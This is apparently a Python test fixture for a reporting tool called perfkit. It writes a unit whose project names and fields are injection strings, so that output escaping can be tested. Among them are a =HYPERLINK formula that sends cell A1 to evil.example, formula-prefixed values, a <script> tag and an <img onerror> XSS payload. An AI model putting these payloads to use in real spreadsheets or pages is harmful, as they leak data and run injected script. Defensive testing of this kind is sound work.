"""A hostile unit for the output tests: names that look like formulas or scripts, end to end.

:func:`write_hostile_unit` writes unit 100001's target table (six projects whose names start with
``=``, ``+``, ``-``, ``@``, carry a ``<script>`` or a ``$…$`` formula), a filled-in actuals workbook made with
``perfkit template``, and its parameter file. :func:`completed_batch` runs ``perfkit batch`` on it
once per test session (``tests/test_crash.py`` kills and resumes that very run; ``tests/test_hostile.py``
reads its outputs).
"""

from __future__ import annotations

import json
from pathlib import Path

from perfkit.run.batch import run_batch
from perfkit.run.manifest import MANIFEST
from tests.badinput.inputs import word_text

UNIT = "100001"
UNIT_NAME = "<img src=x onerror=alert(2)>妇联"
SCRIPT = "<script>alert(1)</script>"
PROJECT_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"2025年点击查看")',
    "+2025年项目SUM(1,2)",
    "-2025年项目",
    "@2025年项目",
    f"2025年{SCRIPT}项目",
    "$\\frac{$2025年项目",  # matplotlib would read "$…$" in a chart label as maths, and fail on this
]
INDICATOR_NAME = "=1+1"  # the first indicator of every project
DESCRIPTION = "@SUM(A1:A9)"
TARGET = "=2场"  # a legitimate target that starts with "="
HOSTILE_TEXTS = [*PROJECT_NAMES, INDICATOR_NAME, DESCRIPTION, TARGET]


def hostile_targets() -> str:
    """The Word text export of the six projects, one after another."""
    tables = []
    for number, name in enumerate(PROJECT_NAMES, start=1):
        text = word_text(target=TARGET).replace("2025年示例项目", name).replace("1.", f"{number}.", 1)
        text = text.replace("100001示例单位", UNIT + UNIT_NAME)
        tables.append(text.replace("\t培训场次\n\t培训场次\n", f"\t{INDICATOR_NAME}\n\t{DESCRIPTION}\n"))
    return "\n".join(tables)


def write_hostile_unit(folder: Path) -> Path:
    """Write targets, actuals and ``100001.yaml`` into ``folder``; returns the parameter file."""
    import openpyxl

    from perfkit.cli import main

    folder.mkdir(parents=True, exist_ok=True)
    targets = folder / "=targets.txt"  # a formula-like file name, shown in the template's 说明 sheet
    targets.write_text(hostile_targets(), encoding="utf-8")
    actuals = folder / "actuals.xlsx"
    assert main(["template", str(targets), "-o", str(actuals)]) == 0
    book = openpyxl.load_workbook(actuals)
    sheet = book["指标完成情况"]
    header = [c.value for c in sheet[1]]
    filled = {"≥95%": "96%", "明显提升": "达成", "≥90%": "92%", TARGET: "2场"}
    for row in sheet.iter_rows(min_row=2):
        row[header.index("实际完成值")].value = filled[row[header.index("指标值")].value]
    projects = book["项目执行情况"]
    header = [c.value for c in projects[1]]
    for row in projects.iter_rows(min_row=2):
        row[header.index("全年预算数（万元）")].value = 5
        row[header.index("全年执行数（万元）")].value = 4.5
    book.save(actuals)
    params = folder / f"{UNIT}.yaml"
    params.write_text(
        f'unit_code: "{UNIT}"\nyear: 2025\ntargets: ["{targets.name}"]\nactuals: [actuals.xlsx]\n', encoding="utf-8"
    )
    return params


def batch_folders(base: Path) -> tuple[Path, Path]:
    """(inputs, outputs) of the session's hostile batch under ``base``."""
    return base / "hostile-inputs", base / "hostile-batch"


def completed_batch(base: Path) -> Path:
    """The output folder of a finished ``perfkit batch`` of the hostile unit (run, or resumed, once)."""
    inputs, output = batch_folders(base)
    params = inputs / f"{UNIT}.yaml"
    if not params.exists():
        write_hostile_unit(inputs)
    try:
        manifest = json.loads((output / MANIFEST).read_text(encoding="utf-8"))
    except (FileNotFoundError, json.JSONDecodeError):
        manifest = {}
    if manifest.get("units", {}).get(UNIT, {}).get("status") != "ok" or "workbook" not in manifest.get("portfolio", {}):
        manifest = run_batch([params], output, jobs=1, progress=False)
    assert manifest["units"][UNIT]["status"] == "ok", manifest["units"][UNIT]
    return output
